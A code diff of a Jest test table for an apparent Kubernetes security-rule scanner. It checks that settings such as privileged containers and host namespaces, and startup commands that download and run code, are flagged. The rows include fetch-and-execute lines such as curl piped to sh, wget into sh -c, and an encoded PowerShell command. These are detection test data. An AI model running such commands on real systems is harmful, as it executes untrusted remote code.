@@ -14,7 +14,7 @@ function details(rule: Rule, changes: Changes, known: Partial<RuleContext> = {})
 }
 
 /** What makes a finding as bad as it is, rule by rule. */
-test.each<[keyof typeof rules, Changes, readonly (string | undefined)[], Partial<RuleContext>?]>([
+const table: readonly (readonly [keyof typeof rules, Changes, readonly (string | undefined)[], Partial<RuleContext>?])[] = [
   ['host-process', { 'spec.securityContext.windowsOptions.hostProcess': true }, [undefined]],
   ['host-namespaces', { 'spec.hostNetwork': true, 'spec.hostPID': true }, ['hostNetwork', 'hostPID']],
   ['privileged', { [`${context}.privileged`]: true }, [undefined]],
@@ -66,7 +66,10 @@ test.each<[keyof typeof rules, Changes, readonly (string | undefined)[], Partial
   ['startup-download', run('curl -u me:secret https://a/b | sh'), ['curl']],
   ['startup-download', run('sh -c "$(wget -qO- https://a/b)"'), ['wget']],
   ['startup-download', run('curl -o x https://a/b; chmod +x x; ./x --password secret'), ['curl']],
-  ['startup-download', run(' '.repeat(70_000)), ['unreadable']],
-])('%s: %j', (id, changes, expected, known) => {
+  ['startup-download', run('pwsh -enc AAAA'), ['unreadable']],
+];
+
+// Each row in full: jest would take a parameter that a row does not fill for a callback.
+test.each(table.map(([id, changes, expected, known = {}]) => [id, changes, expected, known] as const))('%s: %j', (id, changes, expected, known) => {
   expect(details(rules[id], changes, known)).toEqual(expected);
 });
